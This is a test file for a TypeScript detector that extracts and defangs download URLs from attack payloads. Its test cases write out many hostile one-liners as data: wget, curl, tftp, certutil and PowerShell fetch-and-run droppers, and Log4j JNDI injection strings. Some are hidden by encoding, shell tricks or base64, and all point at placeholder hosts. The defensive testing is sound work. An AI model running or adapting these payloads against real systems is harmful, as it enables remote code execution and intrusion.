// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are Log4j's look-ups, not ours
import { expect, test } from 'vitest';
import { defang, defangHost, type PayloadSite, sitesOf } from '../../../../server/detect/sites/index.ts';
import { randomNumbers } from '../../../support/random-flows.ts';

const bytes = (text: string) => Uint8Array.from(text, (character) => character.charCodeAt(0));
const sites = (text: string, isCut = false) => sitesOf(bytes(text), isCut);
const told = (found: readonly PayloadSite[]) => found.map(({ tool, url }) => `${tool} ${url}`);
const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');

test.for([
  ['cd /tmp; wget http://192.0.2.1/a.sh; sh a.sh', 'wget http://192.0.2.1/a.sh'],
  ['wget -q -O /tmp/x http://192.0.2.1:8080/bins/mips&&chmod 777 x', 'wget http://192.0.2.1:8080/bins/mips'],
  ['busybox wget 192.0.2.1/w.sh -O-|sh', 'wget http://192.0.2.1/w.sh'],
  ['/bin/busybox WGET HTTP://Example.com/A;', 'wget http://Example.com/A'],
  ['curl -s -o x "http://192.0.2.1/c.sh"', 'curl http://192.0.2.1/c.sh'],
  ['(curl -sSL evil.example.com/i||wget -qO- evil.example.com/i)|bash', 'curl http://evil.example.com/i'],
  ["system('wget http://192.0.2.1/x')", 'wget http://192.0.2.1/x'],
  ['tftp -g -l bin -r bin.sh 192.0.2.1;', 'tftp tftp://192.0.2.1/bin.sh'],
  ['tftp 192.0.2.1 -c get t.sh', 'tftp tftp://192.0.2.1/t.sh'],
  ['tftp.exe -i 192.0.2.1 GET svc.exe', 'tftp tftp://192.0.2.1/svc.exe'],
  ['ftpget -v -u anonymous -p anonymous -P 21 192.0.2.1 a.sh b.sh', 'ftpget ftp://192.0.2.1/b.sh'],
  ['certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe', 'certutil http://192.0.2.1/a.exe'],
  ["IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/p.ps1')", 'powershell http://192.0.2.1/p.ps1'],
  ['User-Agent: ${jndi:ldap://192.0.2.1:1389/Exploit}', 'jndi ldap://192.0.2.1:1389/Exploit'],
  ['${jndi:rmi://evil.example.com/a}', 'jndi rmi://evil.example.com/a'],
] as const)('%s', ([text, expected]) => {
  expect(told(sites(text))).toContain(expected);
  expect(sites(text)[0]).toMatchObject({ steps: [], isCut: false });
});

test.for([
  ['percent', 'GET /?c=wget%20http%3A%2F%2F192.0.2.1%2Fa.sh HTTP/1.1', 'wget http://192.0.2.1/a.sh'],
  ['percent', 'GET /?c=wget%2520http%253A%252F%252F192.0.2.1%252Fa HTTP/1.1', 'wget http://192.0.2.1/a'],
  ['plus', 'GET /?c=wget+http://192.0.2.1/a.sh HTTP/1.1', 'wget http://192.0.2.1/a.sh'],
  ['escapes', '\\x77\\x67\\x65\\x74 http://192.0.2.1/a', 'wget http://192.0.2.1/a'],
  ['shell', 'wget${IFS}http://192.0.2.1/a', 'wget http://192.0.2.1/a'],
  ['shell', "w''get$IFS$9http://192.0.2.1/a", 'wget http://192.0.2.1/a'],
  ['lookups', '${${lower:j}${lower:n}${::-d}i:${lower:LDAP}://192.0.2.1/a}', 'jndi ldap://192.0.2.1/a'],
  ['lookups', '${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://192.0.2.1/a}', 'jndi ldap://192.0.2.1/a'],
  ['base64', `echo ${base64('curl -s http://192.0.2.1/a|sh')}|base64 -d|sh`, 'curl http://192.0.2.1/a'],
  [
    'base64',
    `\${jndi:ldap://192.0.2.1:1389/Basic/Command/Base64/${base64('wget http://198.51.100.1/b.sh')}}`,
    'wget http://198.51.100.1/b.sh',
  ],
] as const)('hidden by %s: %s', ([step, text, expected]) => {
  const found = sites(text).find(({ tool, url }) => `${tool} ${url}` === expected);
  expect(found?.steps).toContain(step);
});

test('several, each once, in their order', () => {
  const text = 'wget http://192.0.2.1/a; curl http://192.0.2.1/a; wget http://192.0.2.1/a; wget http://192.0.2.1/b';
  expect(told(sites(text))).toEqual(['wget http://192.0.2.1/a', 'curl http://192.0.2.1/a', 'wget http://192.0.2.1/b']);
});

test.for([
  'GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Mozilla/5.0 (+https://example.com/scan)\r\n\r\n',
  'GET / HTTP/1.1\r\nUser-Agent: curl/7.58.0\r\nAccept: */*\r\n\r\n',
  'GET / HTTP/1.0\r\nUser-Agent: Wget/1.12 (linux-gnu)\r\n\r\n',
  'forget http://192.0.2.1/a',
  'wget --help',
  'curl -d a=b -X POST',
  'tftp -h',
  '${jndi}',
  '${env:USER}',
  '',
])('nothing is fetched by %j', (text) => {
  expect(sites(text)).toEqual([]);
});

test('what the payload ends within is told, and a host that may go on is no address', () => {
  expect(sites('wget http://192.0.2.1/a', true)).toMatchObject([{ url: 'http://192.0.2.1/a', isCut: true }]);
  expect(sites('wget http://192.0.2.1/a;', true)).toMatchObject([{ isCut: false }]);
  expect(sites('wget http://192.0.2.1', true)).toEqual([]);
  expect(sites('wget http://192.0.2.1', false)).toMatchObject([{ url: 'http://192.0.2.1' }]);
  expect(sites('${jndi:ldap://192.0.2.', true)).toEqual([]);
  expect(sites('${jndi:ldap://192.0.2.1/a', true)).toMatchObject([{ isCut: true }]);
});

test('defanged: no program follows it, and nothing unseen is in it', () => {
  expect(defang('http://192.0.2.1:8080/a.sh?b=http://c.d')).toBe('hxxp[:]//192[.]0[.]2[.]1:8080/a.sh?b=hxxp[:]//c[.]d');
  expect(defang('https://user@evil.example.com/x')).toBe('hxxps[:]//user[@]evil[.]example[.]com/x');
  expect(defang('http://a.b/?u=://c.d/e.f&v=HTTPS://u@c.d')).toBe(
    'hxxp[:]//a[.]b/?u=[:]//c[.]d/e.f&v=hxxpS[:]//u[@]c[.]d',
  );
  expect(defangHost('http://user:word@evil.example.com:8080/x')).toBe('evil[.]example[.]com');
  expect(defangHost('ldap://192.0.2.1/x')).toBe('192[.]0[.]2[.]1');
  expect(defang('ftp://192.0.2.1/x')).toBe('fxp[:]//192[.]0[.]2[.]1/x');
  expect(defang('tftp://192.0.2.1/x')).toBe('tfxp[:]//192[.]0[.]2[.]1/x');
  expect(defang('http://a.b/\u202e\u0000\xff')).toBe('hxxp[:]//a[.]b/\\x202e\\x00\\xff');
});

test('hostile payloads break nothing, and end within the time of a test', () => {
  const random = randomNumbers();
  const words = [
    'wget ',
    'curl ',
    '${',
    '}',
    'jndi:',
    '%',
    '25',
    'http://',
    'a.b/',
    ';',
    "''",
    'lower:',
    'QUJD',
    '/',
    ' ',
  ];
  for (let round = 0; round < 200; round++) {
    const text = Array.from({ length: 300 }, () => words[Math.floor(random() * words.length)]!).join('');
    for (const site of sites(text.slice(0, 1_024))) {
      expect(site.url.length).toBeLessThanOrEqual(400);
      expect(defang(site.url)).not.toMatch(/^https?:/);
    }
  }
  const started = process.cpuUsage();
  // Searched from each sign, this would take a second.
  for (const text of ['&', '=', '?a'])
    for (let round = 0; round < 20; round++) sites(text.repeat(8_192).slice(0, 8_192));
  const { user, system } = process.cpuUsage(started);
  expect((user + system) / 1_000).toBeLessThan(1_000);
  for (const text of ['${'.repeat(700), '%25'.repeat(500), 'wget '.repeat(300), '/A'.repeat(800), 'A'.repeat(2_000)])
    sites(text.slice(0, 2_048), true);
});
